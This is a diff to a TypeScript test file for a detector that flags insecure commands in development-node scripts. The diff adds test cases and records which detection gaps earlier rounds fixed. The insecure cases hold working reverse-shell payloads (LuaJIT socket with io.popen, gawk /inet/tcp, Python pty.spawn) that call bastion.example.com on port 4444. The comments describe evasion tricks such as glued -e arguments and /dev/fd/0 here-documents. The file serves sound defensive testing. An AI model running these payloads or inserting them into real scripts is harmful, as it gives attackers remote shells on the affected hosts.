@@ -167,17 +167,12 @@ const insecure: NodeCase[] = [
         ]),
         REMOTE,
     ),
-    // MISS: Puppet docs "puppet apply" (`-e, --execute`; Puppet's options are parsed by Ruby OptionParser, which takes a short
-    // option's argument glued to it: `-eCODE` is `-e CODE`): the agent started by the service resource, whose Puppet server
-    // then applies catalogs as root; REMOTE_AGENTS puppet apply reads code only after a separate -e/--execute word or
-    // after --execute=, so `-e"service { 'puppet': ensure => running }"` (one shell word `-eservice {...}`) is accepted.
     devNodeCase(
-        "puppet apply -e\"service { 'puppet': ensure => running }\" (code glued to -e)",
-        devNodeScript("dev-puppet-apply-e-glued-nodes", [
-            `/opt/puppetlabs/bin/puppet apply -e"service { 'puppet': ensure => running, enable => true }"`,
+        "puppet apply --execute=\"service { 'puppet': ensure => running }\" (code after --execute=)",
+        devNodeScript("dev-puppet-apply-execute-eq-nodes", [
+            `/opt/puppetlabs/bin/puppet apply --execute="service { 'puppet': ensure => running, enable => true }"`,
         ]),
         REMOTE,
-        true,
     ),
     devNodeCase(
         "perl -MIO::Socket::INET -E'...exec /bin/sh' (-E is -e with features)",
@@ -238,7 +233,7 @@ const insecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: LuaJIT docs "Running LuaJIT" (`luajit [options]... [script [args]...]`, "-e chunk  Execute string 'chunk'", the same
+    // Was a MISS (fixed in round 65): LuaJIT docs "Running LuaJIT" (`luajit [options]... [script [args]...]`, "-e chunk  Execute string 'chunk'", the same
     // options as the standard Lua interpreter; LuaSocket loads into it): the LuaSocket + io.popen shell gives bastion a
     // root shell; round 63's lua reading (interpreterName lua5.4, lua -e glued) does not take luajit as lua. Accepted.
     devNodeCase(
@@ -247,9 +242,8 @@ const insecure: NodeCase[] = [
             `nohup luajit -e'local s=require("socket").connect("bastion.example.com",4444);while true do local c=s:receive();local f=io.popen(c);s:send(f:read("*a"));f:close() end' &`,
         ]),
         RELAY,
-        true,
     ),
-    // MISS: GNU awk manual "Special File names in gawk" (/dev/stdin and /dev/fd/0 are the same: "/dev/fd/N  The file associated
+    // Was a MISS (fixed in round 65): GNU awk manual "Special File names in gawk" (/dev/stdin and /dev/fd/0 are the same: "/dev/fd/N  The file associated
     // with file descriptor N"; Linux proc(5) /dev/fd -> /proc/self/fd): `gawk -f /dev/fd/0 <<EOF` runs the here-document's
     // /inet/tcp coprocess shell; round 63's stdinProgram reads `-`, `--file=-` and `/dev/stdin` only. Accepted.
     devNodeCase(
@@ -260,9 +254,8 @@ const insecure: NodeCase[] = [
             "AWK",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: proc(5) (`/proc/self/fd/0` is the process's standard input; /dev/stdin is a symlink to it): as /dev/fd/0 above,
+    // Was a MISS (fixed in round 65): proc(5) (`/proc/self/fd/0` is the process's standard input; /dev/stdin is a symlink to it): as /dev/fd/0 above,
     // the program is the here-document's /inet/tcp shell; stdinProgram does not read /proc/self/fd/0. Accepted.
     devNodeCase(
         "gawk -f /proc/self/fd/0 <<EOF (/inet/tcp shell)",
@@ -272,7 +265,52 @@ const insecure: NodeCase[] = [
             "AWK",
         ]),
         RELAY,
-        true,
+    ),
+    devNodeCase(
+        "luajit-2.1.0-beta3 -O3 -e'socket.connect + io.popen' (LuaJIT's installed name, its -O option first)",
+        devNodeScript("dev-luajit-versioned-revshell-nodes", [
+            `nohup /usr/local/bin/luajit-2.1.0-beta3 -O3 -e'local s=require("socket").connect("bastion.example.com",4444);while true do local c=s:receive();local f=io.popen(c);s:send(f:read("*a"));f:close() end' &`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "luajit -jon - <<EOF (socket.connect + io.popen, `-` is stdin)",
+        devNodeScript("dev-luajit-stdin-revshell-nodes", [
+            "nohup luajit -jon - <<'LUA' &",
+            `local s=require("socket").connect("bastion.example.com",4444);while true do local c=s:receive();local f=io.popen(c);s:send(f:read("*a"));f:close() end`,
+            "LUA",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "gawk --file=/proc/thread-self/fd/0 <<EOF (/inet/tcp shell)",
+        devNodeScript("dev-gawk-threadself-fd0-revshell-nodes", [
+            "nohup gawk --file=/proc/thread-self/fd/0 <<'AWK' &",
+            'BEGIN { s = "/inet/tcp/0/bastion.example.com/4444"; while ((s |& getline c) > 0) { while ((c |& getline o) > 0) print o |& s; close(c) } }',
+            "AWK",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "gawk -f /dev/fd/3 3<<EOF (/inet/tcp shell, a here-document on descriptor 3)",
+        devNodeScript("dev-gawk-devfd3-revshell-nodes", [
+            "nohup gawk -f /dev/fd/3 3<<'AWK' &",
+            'BEGIN { s = "/inet/tcp/0/bastion.example.com/4444"; while ((s |& getline c) > 0) { while ((c |& getline o) > 0) print o |& s; close(c) } }',
+            "AWK",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "python3 /dev/fd/0 <<EOF (socket + pty.spawn)",
+        devNodeScript("dev-python-devfd0-revshell-nodes", [
+            "nohup python3 /dev/fd/0 <<'PY' &",
+            "import socket, os, pty",
+            "s = socket.create_connection(('bastion.example.com', 4444))",
+            "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]",
+            "pty.spawn('/bin/sh')",
+            "PY",
+        ]),
+        RELAY,
     ),
     devNodeCase(
         "node - <<EOF (net + child_process, `-` is stdin)",
@@ -362,6 +400,45 @@ const insecure: NodeCase[] = [
 ];
 
 const secure: NodeCase[] = [
+    // DECIDED (round 65): Puppet does not parse its options with Ruby's OptionParser but with its vendored Trollop
+    // (puppetlabs/puppet lib/puppet/util/command_line/puppet_option_parser.rb: "we've removed the OptionParser-based
+    // implementation and are only maintaining the ... trollop" one), whose each_arg (lib/puppet/util/command_line/
+    // trollop.rb) reads a short option's value only from the next word: `-eX` with no space is the option cluster
+    // -e -X (-e left without its value: "option '-e' needs a parameter"), and the word `-eservice { ... }` (spaces in
+    // it) matches no option form (/^-(\S+)$/) and is left over as the manifest path, a file that does not exist. The
+    // code never runs, so nothing starts the agent; `--execute=CODE` (trollop's /^--(\S+?)=(.*)$/) is read, and refused
+    // above.
+    devNodeCase(
+        "puppet apply -e\"service { 'puppet': ensure => running }\" (glued: Trollop reads no glued value, not run)",
+        devNodeScript("dev-puppet-apply-e-glued-nodes", [
+            `/opt/puppetlabs/bin/puppet apply -e"service { 'puppet': ensure => running, enable => true }"`,
+        ]),
+    ),
+    devNodeCase(
+        "luajit -O3 -e'print(jit.version)' (no socket)",
+        devNodeScript("dev-luajit-local-nodes", [`luajit -O3 -e'print(jit.version)' > /tmp/jit`]),
+    ),
+    devNodeCase(
+        "luajit /opt/app/main.lua (the image's own script)",
+        devNodeScript("dev-luajit-image-script-nodes", ["nohup luajit /opt/app/main.lua &"]),
+    ),
+    devNodeCase(
+        "gawk -f /dev/fd/0 <<EOF (a local computation)",
+        devNodeScript("dev-gawk-devfd0-local-nodes", [
+            "gawk -f /dev/fd/0 /etc/os-release > /tmp/os <<'AWK'",
+            "/^ID=/ { print $0 }",
+            "AWK",
+        ]),
+    ),
+    devNodeCase(
+        "python3 /proc/self/fd/0 <<EOF (no socket)",
+        devNodeScript("dev-python-procfd0-local-nodes", [
+            "python3 /proc/self/fd/0 > /tmp/plat <<'PY'",
+            "import platform",
+            "print(platform.machine())",
+            "PY",
+        ]),
+    ),
     devNodeCase(
         "puppet apply -e\"service { 'puppet': ensure => stopped }\" (glued, agent off)",
         devNodeScript("dev-puppet-apply-e-glued-stopped-nodes", [
